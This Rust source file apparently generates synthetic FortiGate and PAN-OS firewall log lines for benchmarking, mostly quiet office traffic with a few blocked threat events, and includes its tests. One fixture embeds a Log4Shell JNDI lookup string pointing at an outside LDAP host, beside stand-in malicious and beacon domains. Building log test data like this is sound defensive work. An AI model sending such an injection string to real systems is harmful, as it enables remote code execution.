//! Lines as a working hour brings them, for measuring: quiet office traffic and what else is found in it.
//!
//! 85 of a hundred are sessions. Of the others most are quiet too: pages, applications and look-ups that passed (PAN-OS
//! has no record of its own for the last two, so that its sessions are some 90 of a hundred). [`VERDICTS`] of a thousand
//! carry a verdict, [`IPV6`] are between IPv6 addresses, [`ESCAPED`] hold quotes and backslashes.
//!
//! It is more even than life: one office, sites by the dozen, two hundred clients. It compresses better than real logs
//! do, and a cache holds more of it. It has no administrators' changes of several kilobytes, nothing malformed, and no
//! envelope; the stages' benches and the corpus have those.

use std::net::{IpAddr, Ipv6Addr};

use crate::catalog::{self, SiteKind};
use crate::day;
use crate::encode::Encoding;
use crate::happening::{self as tell, Happening, Via, What};
use crate::quiet::Office;
use crate::site::{WEB, WEB_PUBLIC, outside};
use crate::{FortigateUnit, Maker, PanosUnit};

/// Of a thousand lines, those with a verdict: far more than on a quiet day, so that what they cost is seen.
pub const VERDICTS: u64 = 5;
/// Of a thousand lines, those between IPv6 addresses.
pub const IPV6: u64 = 40;
/// Of a thousand lines, those whose URL holds quotes and backslashes, as far as pages go.
pub const ESCAPED: u64 = 20;

const USERS: [&str; 6] = ["suzuki", "satou", "takahashi", "tanaka", "watanabe", "itou"];

/// What lines look like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Form {
    /// FortiOS' own: `key=value`, some 48 fields a session.
    FortigateKeyValue,
    /// The same events as [`Form::FortigateKeyValue`] from the same seed, as FortiOS writes JSON.
    FortigateJson,
    /// PAN-OS' own: 117 columns a session.
    PanosCsv,
}

impl Form {
    /// Every form.
    pub const ALL: [Form; 3] = [Form::FortigateKeyValue, Form::FortigateJson, Form::PanosCsv];

    /// Returns its name in tables.
    pub const fn name(self) -> &'static str {
        match self {
            Form::FortigateKeyValue => "fortigate_kv",
            Form::FortigateJson => "fortigate_json",
            Form::PanosCsv => "panos_csv",
        }
    }
}

/// A source of lines.
#[derive(Debug)]
pub struct Mix {
    form: Form,
    office: Office,
    makers: Vec<Maker>,
    /// Devices that write at a time, and lines after which the next ones do.
    turns: Option<(usize, usize)>,
    written: usize,
    waiting: std::vec::IntoIter<String>,
}

impl Mix {
    /// Starts lines of one device.
    pub fn new(form: Form, seed: u64) -> Self {
        Mix::of_devices(form, seed, 1)
    }

    /// Starts lines of so many devices, one at the least; each line is of any of them.
    pub fn of_devices(form: Form, seed: u64, devices: u32) -> Self {
        let maker = |number: u32| match (form, number) {
            (Form::PanosCsv, 0) => Maker::Panos(day::panos()),
            (Form::PanosCsv, _) => {
                Maker::Panos(PanosUnit::new(&format!("0128{number:08}"), &format!("KITA-PA{number}")))
            }
            (_, 0) => Maker::Fortigate(day::fortigate()),
            (..) => Maker::Fortigate(FortigateUnit::new(
                &format!("FGT60FTK21{number:06}"),
                &format!("KITA-FW{number}"),
            )),
        };
        let makers = (0..devices.max(1)).map(maker).collect();
        Mix {
            form,
            office: Office::new(seed),
            makers,
            turns: None,
            written: 0,
            waiting: Vec::new().into_iter(),
        }
    }

    /// Lets so many devices write so many lines, then the next ones, as collectors send what they gathered from theirs.
    #[must_use]
    pub fn in_turns(mut self, devices: usize, lines: usize) -> Self {
        self.turns = Some((devices.clamp(1, self.makers.len()), lines.max(1)));
        self
    }

    /// Leaves out what syslog puts before a line, for readers that are not given it.
    #[must_use]
    pub fn without_header(mut self) -> Self {
        for maker in &mut self.makers {
            match maker {
                Maker::Fortigate(unit) => unit.syslog = false,
                Maker::Panos(unit) => unit.syslog = false,
            }
        }
        self
    }

    /// Returns so many lines joined by line feeds, the last one ended by one.
    pub fn text(self, lines: usize) -> String {
        let mut text = String::with_capacity(lines * 900);
        for line in self.take(lines) {
            text.push_str(&line);
            text.push('\n');
        }
        text
    }

    fn happening(&mut self) -> Happening {
        let quiet = self.office.next_happening();
        let random = &mut self.office.random;
        let mut happening = match random.below(1_000) {
            0..VERDICTS => return verdict(random.below(4), &quiet),
            _ => quiet,
        };
        // Half of the clients have told the firewall who uses them.
        if random.percent(50) {
            happening.user = Some(*random.pick(&USERS[..]));
        }
        if random.below(1_000) < IPV6 {
            let (client, server) = (random.below(200), random.below(50));
            happening.src = ipv6(1, client);
            happening.dst = ipv6(0xffff, server);
        }
        if let What::Web { path, kind, .. } = &mut happening.what {
            // Pages are 80 lines of a thousand.
            if random.below(80) < ESCAPED {
                *path = format!("/find?q=\"town hall\"&from=C:\\docs\\{}", random.below(1_000));
                *kind = SiteKind::Search;
            }
        }
        happening
    }
}

impl Iterator for Mix {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        loop {
            if let Some(line) = self.waiting.next() {
                self.written += 1;
                return Some(line);
            }
            let happening = self.happening();
            let (devices, lines) = self.turns.unwrap_or((self.makers.len(), usize::MAX));
            let among = self.office.random.below(devices as u64) as usize;
            let which = (self.written / lines * devices + among) % self.makers.len();
            let lines = self.makers[which].lines(&happening);
            self.waiting = match self.form {
                Form::FortigateJson => {
                    let written = lines.iter().filter_map(|line| Encoding::FortigateJson.write(line));
                    written.map(|encoded| encoded.line).collect::<Vec<_>>().into_iter()
                }
                Form::FortigateKeyValue | Form::PanosCsv => lines.into_iter(),
            };
        }
    }
}

/// One of the things that an appliance stops every day, by the same client at the same time.
fn verdict(which: u64, quiet: &Happening) -> Happening {
    let attacker = outside(300 + (quiet.session % 40) as u32);
    let happening = match which {
        0 => {
            let exploit = tell::exploit(quiet.at, attacker, WEB, 443, &catalog::LOG4J);
            exploit
                .behind(WEB_PUBLIC)
                .url("https://www.kita.example/?x=${jndi:ldap://203.0.113.9/a}")
                .blocked()
        }
        1 => tell::malware(quiet.at, quiet.src, attacker, Via::Http, &catalog::TROJAN).blocked(),
        2 => tell::web(quiet.at, quiet.src, attacker, "prize.example", "/win", SiteKind::Malicious).blocked(),
        _ => tell::cc_lookup(quiet.at, quiet.src, outside(60), "beacon.example").blocked(),
    };
    happening.session(quiet.session)
}

fn ipv6(network: u16, host: u64) -> IpAddr {
    IpAddr::V6(Ipv6Addr::new(0x2001, 0x0db8, network, 0, 0, 0, 0, 0x100 + host as u16))
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;

    const LINES: usize = 10_000;

    fn share(lines: &[String], what: impl Fn(&str) -> bool) -> usize {
        lines.iter().filter(|line| what(line)).count() * 1_000 / lines.len()
    }

    #[test]
    fn lines_are_as_long_and_as_mixed_as_promised() {
        for (form, length, sessions) in [
            (Form::FortigateKeyValue, 840..960, 830..880),
            (Form::FortigateJson, 900..1_100, 830..880),
            (Form::PanosCsv, 740..920, 860..930),
        ] {
            let lines: Vec<String> = Mix::new(form, 3).take(LINES).collect();
            let bytes = lines.iter().map(String::len).sum::<usize>() / LINES;
            assert!(length.contains(&bytes), "{form:?}: {bytes} bytes");
            let of_sessions = share(&lines, |line| {
                [",TRAFFIC,", "type=\"traffic\"", "\"type\":\"traffic\""]
                    .iter()
                    .any(|word| line.contains(word))
            });
            assert!(sessions.contains(&of_sessions), "{form:?}: {of_sessions} sessions");
            let of_ipv6 = share(&lines, |line| line.contains("2001:db8:1::"));
            assert!((30..50).contains(&of_ipv6), "{form:?}: {of_ipv6} of IPv6");
            let escaped = share(&lines, |line| line.contains("town hall"));
            assert!((10..35).contains(&escaped), "{form:?}: {escaped} with quotes");
            let verdicts = ["Log4j", "kogarashi", "Kogarashi", "prize.example", "beacon.example"];
            let judged = share(&lines, |line| verdicts.iter().any(|word| line.contains(word)));
            assert!((2..10).contains(&judged), "{form:?}: {judged} with verdicts");
        }
    }

    #[test]
    fn both_forms_of_a_fortigate_tell_the_same_events() {
        let mut pairs = Mix::new(Form::FortigateKeyValue, 5);
        let mut objects = Mix::new(Form::FortigateJson, 5);
        for _ in 0..2_000 {
            let (pairs, object) = (pairs.next().unwrap(), objects.next().unwrap());
            let object: Value = serde_json::from_str(object.trim_start_matches(|c| c != '{')).unwrap();
            for key in ["eventtime", "sessionid", "srcip", "dstip", "srcport"] {
                let value = object[key].as_str().map_or(object[key].to_string(), str::to_owned);
                assert!(pairs.contains(&format!(" {key}={value} ")), "{key}={value} in {pairs}");
            }
        }
    }

    #[test]
    fn same_seed_same_lines_and_as_many_devices_as_asked_for() {
        for form in Form::ALL {
            let of = |seed| Mix::of_devices(form, seed, 50).text(2_000);
            let text = of(1);
            assert_eq!(text, of(1));
            assert_ne!(text, of(2));
            let devices: std::collections::BTreeSet<String> = (1..50)
                .map(|n| {
                    if form == Form::PanosCsv {
                        format!(",0128{n:08},")
                    } else {
                        format!("\"FGT60FTK21{n:06}\"")
                    }
                })
                .filter(|id| text.contains(id))
                .collect();
            assert_eq!(devices.len(), 49, "{form:?}");
        }
    }

    #[test]
    fn devices_take_turns() {
        let turns = Mix::of_devices(Form::FortigateKeyValue, 1, 6).in_turns(2, 50);
        let lines: Vec<String> = turns.take(400).collect();
        let of =
            |lines: &[String], n: u32| lines.iter().any(|line| line.contains(&format!("FGT60FTK21{n:06}")));
        assert!(of(&lines[50..100], 2) && of(&lines[50..100], 3) && !of(&lines[50..100], 4));
        assert!(of(&lines[100..150], 4) && of(&lines[100..150], 5) && !of(&lines[100..150], 3));
        assert!(of(&lines[200..250], 2) && !of(&lines[200..250], 5), "and again from the first");
    }

    #[test]
    fn ipv6_is_not_translated() {
        for form in Form::ALL {
            let line = Mix::new(form, 3).find(|line| line.contains("2001:db8:1::")).unwrap();
            assert!(!line.contains("198.51.100.1"), "{line}");
        }
    }
}
